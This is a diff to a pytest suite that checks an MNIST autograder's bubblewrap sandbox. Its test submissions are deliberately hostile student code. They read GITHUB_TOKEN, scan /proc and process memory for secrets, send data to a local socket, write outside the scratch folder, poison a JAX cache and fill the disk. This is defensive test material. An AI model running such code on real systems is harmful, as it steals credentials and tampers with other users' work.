@@ -1,6 +1,7 @@
 """--sandbox: student code under bubblewrap reaches no network, no file outside its submission and scratch
 folder, no other process and no secret in the environment, while its correct steps keep their points."""
 
+import json
 import os
 import re
 import shutil
@@ -8,6 +9,7 @@ import signal
 import socket
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 import uuid
@@ -20,17 +22,39 @@ from conftest import ROOT, SOLUTIONS, grade_steps, mnist_grade
 
 from grader import bubblewrap
 
-REASON = bubblewrap.problem()
-needs_bubblewrap = pytest.mark.skipif(REASON is not None, reason=f"the sandbox cannot run here: {REASON}")
+needs_bubblewrap = pytest.mark.needs("sandbox")
 
 # Each step attacks, and fails saying what it gained when it gains anything; else it does its work.
 ATTACKS = {
-    "reshape": '''import os
+    "reshape": '''import gc
+import os
 import socket
 
 
+def seen(token):
+    """Whether `token` is anywhere this process can look: any process's variables and command line, and every
+    list, tuple and dict of its Python memory."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        for what in ("environ", "cmdline"):
+            try:
+                if token.encode() in open(f"/proc/{{pid}}/{{what}}", "rb").read():
+                    return True
+            except OSError:
+                pass
+    for item in gc.get_objects():
+        values = [*item.keys(), *item.values()] if isinstance(item, dict) else item if isinstance(
+            item, (list, tuple)) else ()
+        if any(isinstance(value, str) and token in value or isinstance(value, bytes) and token.encode() in value
+               for value in values):
+            return True
+    return False
+
+
 def reshape_images(images):
+    token = "".join(reversed("terces-phg"))  # Made here, so that the search cannot find its own text.
     gained = ["the token " + os.environ["GITHUB_TOKEN"]] if "GITHUB_TOKEN" in os.environ else []
+    if seen(token):
+        gained.append("the token in memory")
     try:
         socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
         gained.append("a connection to 127.0.0.1")
@@ -61,6 +85,7 @@ def one_hot_labels(labels):
     cache = os.environ.get("JAX_COMPILATION_CACHE_DIR")  # What other gradings' training reads.
     for path in {targets!r} + ([os.path.join(cache, "poisoned")] if cache else []):
         try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)  # JAX makes its cache folder when it first compiles.
             open(path, "w").write("escaped")
             wrote.append(os.path.basename(os.path.dirname(path)))
         except OSError:
@@ -141,8 +166,9 @@ def sentinel():
 @needs_bubblewrap
 def test_student_code_in_the_sandbox_gains_nothing_and_keeps_its_points(tmp_path, server, sentinel):
     """A batch (the sandbox is its default): alice's code tries the network, a file outside her submission,
-    bob's submission, the environment's secrets, writing outside her scratch folder and other processes.
-    She gets 100/100, as bob does, and none of it works; graded without the sandbox, each of them does."""
+    bob's submission, the environment's secrets (its variables, any process's, her process's memory), writing
+    outside her scratch folder and other processes. She gets 100/100, as bob does, in the batch and graded alone,
+    and none of it works; graded without the sandbox, each of them does."""
     port, received = server
     name, process = sentinel
     class_, outside = tmp_path / "class", tmp_path / "outside"
@@ -170,11 +196,16 @@ def test_student_code_in_the_sandbox_gains_nothing_and_keeps_its_points(tmp_path
     assert not any(os.path.exists(target) for target in targets)
     compiled = Path(os.environ["MNIST_CACHE"]) / "jax-sandbox"  # Made by the grader, read by the workers.
     assert [path.name for path in compiled.glob(".filled-*")] and not (compiled / "poisoned").exists()
+    # Graded alone, the workers come from a new host rather than from a fork of the grading: the same.
+    alone = subprocess.run([sys.executable, "-m", "grader.cli", str(alice), "--sandbox", "on"], cwd=ROOT,
+                           capture_output=True, text=True, timeout=900, env=env)
+    assert "Score: 100/100" in alone.stdout, alone.stdout
+    assert received == [] and process.poll() is None and not any(os.path.exists(target) for target in targets)
 
     unguarded = subprocess.run([sys.executable, "-m", "grader.cli", str(alice), "--sandbox", "off"], cwd=ROOT,
                                capture_output=True, text=True, timeout=900, env=env)
     failed = re.findall(r"raised RuntimeError: (.*)", unguarded.stdout)
-    assert failed == ["got the token ghp-secret and a connection to 127.0.0.1",
+    assert failed == ["got the token ghp-secret and the token in memory and a connection to 127.0.0.1",
                       "read the instructor's key and bob's work", "wrote into outside and tmp and bob and jax",
                       "saw and killed another process"], unguarded.stdout
     assert received == [b"stolen"] and process.wait(timeout=10) == -signal.SIGKILL
@@ -217,6 +248,170 @@ def test_a_sandbox_dies_with_the_grading_that_started_it(submission):
         grading.kill()
         grading.wait()
     assert psutil.wait_procs(named(name), timeout=10)[1] == [], named(name)
+
+
+HALF_RIGHT = {"normalize": "def normalize_images(images):\n    return images / 255\n"}  # float64: 3 of its points.
+
+
+def points(results):
+    """Each check's points, from a results.json."""
+    return [(test["name"], test["score"]) for test in results["tests"]]
+
+
+def graded_json(folder, *options, env=None, cwd=ROOT, command=()):
+    """mnist-grade FOLDER OPTIONS --json, with `env`, run through `command` (a prefix); the results.json."""
+    out = Path(folder).parent / f"results-{uuid.uuid4().hex}.json"
+    graded = subprocess.run([*command, sys.executable, "-m", "grader.cli", str(folder), "--json", str(out), *options],
+                            cwd=cwd, capture_output=True, text=True, timeout=900, env=env)
+    assert graded.returncode in (0, 1) and out.exists(), graded.stdout + graded.stderr
+    return json.loads(out.read_text())
+
+
+@pytest.fixture(scope="module")
+def half_right_without_sandbox(tmp_path_factory):
+    """A submission with normalize wrong (float64) and the rest right, and its results graded without the sandbox."""
+    folder = tmp_path_factory.mktemp("half-right") / "work"
+    shutil.copytree(SOLUTIONS, folder, ignore=shutil.ignore_patterns("__pycache__"))
+    for step, code in HALF_RIGHT.items():
+        (folder / f"{step}.py").write_text(code)
+    return folder, graded_json(folder, "--sandbox", "off")
+
+
+def fresh_home(folder):
+    """Variables of a new machine's user: HOME, XDG_CACHE_HOME and KERAS_HOME empty, no cache of the grader's."""
+    home = Path(folder) / "home"
+    home.mkdir(parents=True)
+    env = {name: value for name, value in os.environ.items()
+           if not name.startswith(("MNIST_CACHE", "MNIST_SANDBOX", "XDG_", "MPLCONFIGDIR"))}
+    return {**env, "HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache"), "KERAS_HOME": str(home / ".keras")}
+
+
+def test_no_path_of_one_machine_is_in_the_grader(tmp_path):
+    """No home folder of any machine in the grader's code, and a sandbox binds only what the grader names: the
+    system, Python, the grader's package, the submission, the inputs, the compiled programs and the scratch folders."""
+    # A string that starts with a home folder, of Linux, macOS or Windows.
+    homes = re.compile(r"""["'](/root|/home/[^/"']+|/Users/[^/"']+|[A-Za-z]:\\+Users\\+[^\\"']+)[/\\"']""")
+    found = [f"{path.relative_to(ROOT)}:{number}: {line.strip()}" for path in sorted((ROOT / "grader").rglob("*.py"))
+             for number, line in enumerate(path.read_text().splitlines(), 1) if homes.search(line)]
+    assert found == []
+    made = {name: tmp_path / name for name in ("submission", "inputs", "scratch", "compiled")}
+    sandbox = bubblewrap.Sandbox(made["submission"], [made["inputs"]], [made["scratch"]], 64, made["compiled"])
+    command = sandbox.command(9)
+    bound = {command[i + 1] for i, option in enumerate(command) if option in ("--ro-bind", "--bind", "--dev-bind")}
+    named = {*bubblewrap.SYSTEM, *bubblewrap.python_folders(bubblewrap.SYSTEM), str(bubblewrap.GRADER),
+             *(str(path) for name, path in made.items() if name != "scratch")}
+    assert bound and bound <= named, bound - named
+    assert "--bind" not in command and "--dev-bind" not in command  # Nothing of the machine is writable.
+    assert command[command.index("--tmpfs") - 2:command.index("--tmpfs") + 2] == [
+        "--size", str(64 << 20), "--tmpfs", str(made["scratch"])]
+
+
+@needs_bubblewrap
+def test_on_a_new_machine_the_sandbox_grades_as_without_it(half_right_without_sandbox, tmp_path):
+    """HOME, XDG_CACHE_HOME and KERAS_HOME point at empty folders: no cache of any kind, and the sandbox's compiled
+    programs not made yet. --sandbox on makes them, then gives every check the points it gets without the sandbox."""
+    folder, without = half_right_without_sandbox
+    env = fresh_home(tmp_path)
+    results = graded_json(folder, "--sandbox", "on", env=env)
+    assert points(results) == points(without) and results["score"] == without["score"] == 97
+    assert list((Path(env["XDG_CACHE_HOME"]) / "mnist-grade" / "jax-sandbox").glob(".filled-*"))
+
+
+def traversable_by_others(path):
+    return bool(os.stat(path).st_mode & 0o001)
+
+
+def seen_by_others(paths):
+    """bubblewrap options that let any user reach `paths` read-only, where a folder above one lets only its owner in:
+    that folder becomes an empty tmpfs, and the first folder below it on the way to the path is bound back."""
+    options = []
+    for path in sorted(set(map(os.path.realpath, paths))):
+        parts = Path(path).parts
+        for depth in range(1, len(parts)):
+            above, below = Path(*parts[:depth]), Path(*parts[:depth + 1])
+            if not traversable_by_others(above):
+                if ["--tmpfs", str(above)] != options[-4:-2]:
+                    options += ["--tmpfs", str(above)]
+                options += ["--ro-bind", str(below), str(below)]
+                break
+    return options
+
+
+@needs_bubblewrap
+def test_as_an_unprivileged_user_the_sandbox_grades_as_without_it(half_right_without_sandbox):
+    """The grading runs as a user with no rights (nobody, where the test runs as root): bubblewrap makes the sandbox
+    with a user namespace of that user's, and every check gets the points it gets without the sandbox."""
+    folder, without = half_right_without_sandbox
+    work = Path(tempfile.mkdtemp(prefix="mnist-unprivileged-"))  # In /tmp, not in pytest's folder, which only root
+    try:  # can enter.
+        os.chmod(work, 0o755)
+        shutil.copytree(folder, work / "work")
+        env = {**fresh_home(work), "PATH": os.environ["PATH"]}
+        command = []
+        if os.geteuid() == 0:
+            import pwd
+
+            nobody = pwd.getpwnam("nobody")
+            for path in [work, *work.rglob("*")]:
+                os.chown(path, nobody.pw_uid, nobody.pw_gid)
+            needed = [*bubblewrap.python_folders(), str(ROOT), os.environ["MNIST_DATA"]]
+            command = ["bwrap", "--dev-bind", "/", "/", "--die-with-parent", *seen_by_others(needed), "--",
+                       "setpriv", f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}", "--clear-groups"]
+        results = graded_json(work / "work", "--sandbox", "on", env=env, command=command)
+        assert points(results) == points(without) and results["score"] == 97
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
+
+
+FILLS_SCRATCH = '''import os
+import tempfile
+
+import numpy as np
+
+
+def {function}(values):
+    with open(os.path.join(tempfile.gettempdir(), "filler"), "wb") as file:
+        block = bytes(64 << 20)
+        for _ in range(32):  # 2 GiB
+            file.write(block)
+    return {answer}
+'''
+
+
+@needs_bubblewrap
+def test_a_step_that_fills_its_scratch_folder_fails_alone_and_leaves_nothing(submission, tmp_path):
+    """reshape writes 2 GiB into its scratch folder and one_hot 100 MB of it, under the limit: reshape fails, saying
+    which limit it passed and its option, and the other steps keep their points. Nothing reached the disk: its free
+    space never dropped by a gigabyte, and the grading's temporary folder is empty after."""
+    folder = submission(
+        reshape=FILLS_SCRATCH.format(function="reshape_images", answer="values.reshape(len(values), 784)"),
+        one_hot=FILLS_SCRATCH.replace("range(32)", "range(2)").format(
+            function="one_hot_labels", answer="np.eye(10, dtype='float32')[values]"))
+    temporary = tmp_path / "tmp"
+    temporary.mkdir()
+    free, lowest, done = shutil.disk_usage(temporary).free, [shutil.disk_usage(temporary).free], threading.Event()
+
+    def watch():
+        while not done.wait(0.05):
+            lowest.append(shutil.disk_usage(temporary).free)
+
+    watcher = threading.Thread(target=watch, daemon=True)
+    watcher.start()
+    try:
+        graded = subprocess.run([sys.executable, "-m", "grader.cli", str(folder), "--sandbox", "on"], cwd=ROOT,
+                                capture_output=True, text=True, timeout=900, env={**os.environ,
+                                                                                 "TMPDIR": str(temporary)})
+    finally:
+        done.set()
+        watcher.join()
+    lines = graded.stdout.splitlines()
+    assert lines[2:5] == [
+        "✗ reshape    0/10",
+        "    reshape_images() wrote more than 256 MB to its scratch folder, the limit (--max-scratch)",
+        "    Help: this step needs no files: remove the code that writes them, or write less."], graded.stdout
+    assert "✓ one_hot    10/10" in lines and "Score: 90/100 (6 of 7 steps done)" in lines, graded.stdout
+    assert free - min(lowest) < 1 << 30, f"the disk lost {(free - min(lowest)) >> 20} MB meanwhile"
+    assert list(temporary.iterdir()) == []
 
 
 @pytest.mark.skipif(not sys.platform.startswith("linux"), reason="elsewhere the reason is the platform, not bwrap "
@@ -264,16 +459,24 @@ def test_where_there_is_no_sandbox_on_says_why_and_auto_says_so_once(platform, d
 
 
 def test_the_sandbox_is_an_option_of_grading_batch_and_the_gradescope_bundle(tmp_path):
-    """Off by default for one's own work, auto for a class; the bundle's run_autograder passes it and the limits."""
+    """Off by default for one's own work, auto for a class; the bundle's run_autograder passes it and the limits,
+    the scratch folder's among them."""
     assert "--sandbox {auto,on,off}" in mnist_grade("--help").stdout
     assert "(default: off)" in " ".join(mnist_grade("--help").stdout.split())
     assert "(default: auto)" in " ".join(mnist_grade("batch", "--help").stdout.split())
     assert "(default: auto)" in " ".join(mnist_grade("gradescope", "--help").stdout.split())
+    for command in ([], ["batch"], ["gradescope"]):
+        assert ("--max-scratch MB in the sandbox, fail a step that writes more than MB megabytes to its scratch folder "
+                "(default: 256)") in " ".join(mnist_grade(*command, "--help").stdout.split())
+    refused = mnist_grade("solutions", "--sandbox", "on", "--max-scratch", "8")
+    assert refused.returncode == 2 and refused.stderr.endswith(
+        "mnist-grade: error: argument --max-scratch: give at least 16 MB: room for what the grader saves of a step "
+        "there\n"), refused.stderr
     bundle = tmp_path / "autograder.zip"
-    made = mnist_grade("gradescope", "--out", str(bundle), "--sandbox", "on", "--max-size", "20")
+    made = mnist_grade("gradescope", "--out", str(bundle), "--sandbox", "on", "--max-size", "20", "--max-scratch", "64")
     assert made.returncode == 0, made.stderr
     with zipfile.ZipFile(bundle) as archive:
         script = archive.read("run_autograder").decode()
         setup = archive.read("setup.sh").decode()
-    assert script.endswith("--sandbox on --max-size 20 --max-files 1000 --max-ratio 100\n")
+    assert script.endswith("--sandbox on --max-size 20 --max-files 1000 --max-ratio 100 --max-scratch 64\n")
     assert "apt-get install -y bubblewrap" in setup and 'run_autograder" fill' in setup
